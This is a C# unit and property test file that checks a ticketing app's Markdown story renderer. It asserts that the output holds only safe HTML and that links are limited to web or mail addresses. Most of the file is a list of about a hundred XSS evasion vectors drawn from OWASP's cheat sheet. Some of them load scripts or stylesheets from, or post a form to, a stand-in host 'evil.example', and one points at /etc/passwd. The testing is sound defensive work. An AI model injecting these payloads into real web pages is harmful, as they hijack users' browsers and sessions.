using FsCheck;
using FsCheck.Fluent;
using Ticketing.Infrastructure.Catalog.Stories;

namespace Ticketing.Tests.Catalog.Stories;

/// <summary>
/// Whatever a story contains, a browser that reads its HTML finds only the allowed elements and attributes. Vectors after OWASP's XSS filter
/// evasion cheat sheet, and what is special to Markdown.
/// </summary>
public sealed class StoryAttackTests
{
    public static TheoryData<string> Vectors =>
    [
        // Elements and event handlers.
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<script>alert(1)",
        "<<script>alert(1);//<</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script\n>alert(1)</script\n>",
        "<script/src=data:,alert(1)>",
        "</p><script>alert(1)</script><p>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"javascript:alert(1)\">",
        "<img \"\"\"><script>alert(1)</script>\">",
        "<IMG SRC=`javascript:alert(1)`>",
        "<img src=x:alert(alt) onerror=eval(src) alt=1>",
        "<svg onload=alert(1)>",
        "<svg/onload=alert(1)//",
        "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
        "<body onload=alert(1)>",
        "<iframe src=javascript:alert(1)>",
        "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        "<embed src=javascript:alert(1)>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<style>@import'https://evil.example/x.css';</style>",
        "<base href=https://evil.example/>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<form action=https://evil.example><input name=password>",
        "<button formaction=javascript:alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<marquee onstart=alert(1)>",
        "<a href=javascript:alert(1)>x</a>",
        "<div style=\"background:url(javascript:alert(1))\">",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version=\"1.0\"?><script>alert(1)</script>",
        "<!DOCTYPE html><script>alert(1)</script>",
        "<x contenteditable onblur=alert(1)>",

        // Links and their addresses.
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java&#115;cript:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](<java\nscript:alert(1)>)",
        "[x](<  javascript:alert(1)>)",
        "[x](\u0001javascript:alert(1))",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
        "[x](file:///etc/passwd)",
        "[x](//evil.example)",
        "[x](/account/logout)",
        "[x](\\\\evil.example)",
        "[x](https:\\\\evil.example)",
        "[x](https://bank.example@evil.example/)",
        "[x](https://example.org/\"onmouseover=\"alert(1))",
        "[x](<https://example.org/\" onmouseover=\"alert(1)>)",
        "[x](https://example.org '\"><script>alert(1)</script>')",
        "[x](https://example.org \"onmouseover=alert(1)\")",
        "[<img src=x onerror=alert(1)>](https://example.org)",
        "[a](https://example.org/<script>alert(1)</script>)",
        "[x][y]\n\n[y]: javascript:alert(1)",
        "[x][y]\n\n[y]: https://example.org '\"onclick=alert(1)'",
        "<javascript:alert(1)>",
        "<JAVASCRIPT:alert(1)//@x>",
        "<data:text/html,<script>alert(1)</script>>",
        "<mailto:\"><script>alert(1)</script>@example.org>",
        "[x](mailto:a@example.org\"onclick=alert(1))",
        "[<https://inner.example>](https://outer.example)",
        "[a [b](https://inner.example)](https://outer.example)",

        // Pictures, code and what else Markdown has.
        "![x](javascript:alert(1))",
        "![x](https://evil.example/track.gif)",
        "![\"onerror=alert(1)](x)",
        "![<script>alert(1)</script>](x)",
        "[![x](javascript:alert(1))](javascript:alert(2))",
        "```\n<script>alert(1)</script>\n```",
        "    <script>alert(1)</script>",
        "`<script>alert(1)</script>`",
        "> <script>alert(1)</script>",
        "- <script>alert(1)</script>",
        "# <script>alert(1)</script>",
        "*<script>alert(1)</script>*",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "\\<script\\>alert(1)\\</script\\>",
        "|<script>|\n|-|\n|alert(1)|",
        "{onclick=alert(1)}\n# x {#id onclick=alert(1)}",
        "x\u0000<script\u0000>alert(1)</script>",
        "\ufeff<script>alert(1)</script>",
        "＜script＞alert(1)＜/script＞",
        "\ud800<script>alert(1)</script>",
        "<a href=\"https://example.org\"\n\nonclick=alert(1)>",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    ];

    [Fact]
    public void Vectors_AreManyAndDifferent() => Assert.True(Vectors.Select(row => row.Data).Distinct().Count() >= 60);

    [Theory]
    [MemberData(nameof(Vectors))]
    public void Html_OfAVector_IsSafe(string vector)
    {
        Assert.Equal("", StoryMarkup.Fault(vector));
        Assert.Equal("", StoryMarkup.Fault($"Before {vector} after"));
        Assert.Equal("", StoryMarkup.Fault($"- *{vector}*\n\n  [a]({vector})\n1. # {vector}"));
    }

    // The check itself finds what it must.
    [Theory]
    [InlineData("javascript:alert(1)", false)]
    [InlineData("https://example.org/a%20b?c=d#e", true)]
    [InlineData("http://example.org:8080", true)]
    [InlineData("HTTPS://EXAMPLE.ORG", true)]
    [InlineData("mailto:box@example.org", true)]
    [InlineData("mailto:", false)]
    [InlineData("https://user:password@example.org", false)]
    [InlineData("https:///", false)]
    [InlineData("https://exa mple.org", false)]
    [InlineData("ftp://example.org", false)]
    [InlineData("tel:+49301", false)]
    [InlineData("example.org", false)]
    [InlineData("#top", false)]
    [InlineData("", false)]
    [InlineData(null, false)]
    public void Address_OfALink_IsOfTheWebOrMail(string? url, bool isAllowed) => Assert.Equal(isAllowed, StoryLink.AddressOf(url) is not null);

    [Fact]
    public void Html_OfRandomTexts_IsSafe()
    {
        // Pieces that are special to Markdown or HTML, in any order.
        var pieces = Gen.Elements(
            "a", " ", "\n", "\n\n", "*", "**", "_", "#", "# ", "- ", "1. ", "+ ", "[", "]", "](", ")", "![", "<", ">", "</", "/>", "\"", "'", "`", "```", "&", "&lt;", "&#60;",
            "\\", "script", "img", "svg", " onerror=", "javascript:", "java\tscript:", "https://example.org", "mailto:a@example.org", "data:", "|", "~~", ":", "=", "---", "===",
            "<!--", "-->", "<![CDATA[", "]]>", "<?", "\u0000", "\u0001", "\u2028", "\ud800", "é", "    ", "\t", "\r\n", "[x]: ", "{", "}", "@", "<https://", "<a href=");
        var texts = pieces.ArrayOf().Select(some => string.Concat(some));

        Prop.ForAll(texts.ToArbitrary(), text => StoryMarkup.Fault(text) is "" && StoryText.ToPlain(text) is not null)
            .Check(Config.QuickThrowOnFailure.WithMaxTest(3_000).WithEndSize(60));
    }
}
